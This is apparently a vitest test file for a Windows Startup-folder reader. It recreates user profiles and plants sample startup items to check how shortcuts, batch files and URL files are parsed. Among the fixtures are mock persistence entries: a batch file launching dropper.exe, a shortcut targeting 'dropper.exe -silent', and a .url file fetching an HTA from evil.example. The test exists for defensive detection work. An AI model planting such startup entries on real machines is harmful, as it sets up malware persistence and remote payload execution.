// Startup folders read as files (the folder layout of Windows recreated in a temporary folder): shortcuts read
// for their target, other files as themselves, desktop.ini and sub-folders left out, broken items kept.
import { copyFileSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, utimesSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { readStartupFolders, startupFolders } from '../../../../src/agent/platform/windows/startup-items.js';

const FIXTURES = new URL('./fixtures/', import.meta.url).pathname;
const STARTUP = ['AppData', 'Roaming', 'Microsoft', 'Windows', 'Start Menu', 'Programs', 'Startup'];

describe('Windows Startup folders', () => {
  const root = mkdtempSync(join(tmpdir(), 'lr-startup-'));
  afterAll(() => rmSync(root, { recursive: true, force: true }));
  const users = join(root, 'Users');
  const programData = join(root, 'ProgramData');

  it('lists the all-users folder and every real profile, not the junctions', async () => {
    for (const u of ['bob', 'Default', 'Public']) mkdirSync(join(users, u), { recursive: true });
    symlinkSync(programData, join(users, 'All Users'));
    symlinkSync(join(users, 'Default'), join(users, 'Default User'));
    const folders = await startupFolders({ PUBLIC: join(users, 'Public'), ProgramData: programData });
    expect(folders).toEqual([
      { dir: join(programData, 'Microsoft', 'Windows', 'Start Menu', 'Programs', 'StartUp'), owner: 'All Users' },
      { dir: join(users, 'bob', ...STARTUP), owner: 'bob' },
      { dir: join(users, 'Default', ...STARTUP), owner: 'Default' },
      { dir: join(users, 'Public', ...STARTUP), owner: 'Public' },
    ]);
  });

  it('reads shortcuts for their target, other files as themselves, skips desktop.ini and sub-folders, keeps broken items', async () => {
    const all = join(programData, 'Microsoft', 'Windows', 'Start Menu', 'Programs', 'StartUp');
    const bob = join(users, 'bob', ...STARTUP);
    mkdirSync(all, { recursive: true });
    mkdirSync(join(bob, 'sub'), { recursive: true });
    copyFileSync(join(FIXTURES, 'wine-dropper.lnk'), join(all, 'Updater.lnk'));
    writeFileSync(join(all, 'desktop.ini'), '[.ShellClassInfo]\r\n');
    writeFileSync(join(bob, 'run.bat'), '@echo off\r\nstart C:\\Users\\Public\\dropper.exe\r\n');
    writeFileSync(join(bob, 'site.url'), '[InternetShortcut]\r\nURL=http://evil.example/x.hta\r\n');
    writeFileSync(join(bob, 'broken.lnk'), 'not a link');
    writeFileSync(join(bob, 'sub', 'ignored.bat'), 'x');
    utimesSync(join(bob, 'run.bat'), new Date('2024-05-06T07:08:09Z'), new Date('2024-05-06T07:08:09Z'));
    const items = await readStartupFolders(
      await startupFolders({ PUBLIC: join(users, 'Public'), ProgramData: programData }),
    );
    expect(items.map((i) => i.name)).toEqual(['Updater.lnk', 'broken.lnk', 'run.bat', 'site.url']);
    expect(items[0]).toMatchObject({
      kind: 'startup-folder',
      path: join(all, 'Updater.lnk'),
      exec: 'C:\\Users\\Public\\dropper.exe -silent',
      owner: 'All Users',
    });
    expect(items[0]!.error).toBeUndefined();
    expect(items[1]).toMatchObject({
      exec: null,
      owner: 'bob',
      error: 'not a valid shortcut: truncated header (offset 0, 76 bytes, file has 10)',
    });
    expect(items[2]).toEqual({
      kind: 'startup-folder',
      path: join(bob, 'run.bat'),
      name: 'run.bat',
      exec: join(bob, 'run.bat'),
      owner: 'bob',
      mtime: '2024-05-06T07:08:09.000Z',
    });
    expect(items[3]).toMatchObject({ exec: 'http://evil.example/x.hta' });
  });

  it('reports an unreadable Startup folder instead of dropping it', async () => {
    const locked = join(root, 'locked');
    writeFileSync(locked, '');
    // A path through a file: readdir fails with ENOTDIR, which means "no such folder" and is skipped...
    expect(await readStartupFolders([{ dir: join(locked, 'x'), owner: 'eve' }])).toEqual([]);
    // ...while any other failure to list is reported (root ignores permissions, so a name Node refuses, with a
    // NUL, stands in for an access-denied folder).
    const items = await readStartupFolders([{ dir: join(root, 'nul\0'), owner: 'eve' }]).catch((e: Error) => e);
    expect(items).toBeInstanceOf(Array);
    expect((items as { error?: string }[])[0]!.error).toMatch(/^Startup folder unreadable: /);
  });
});
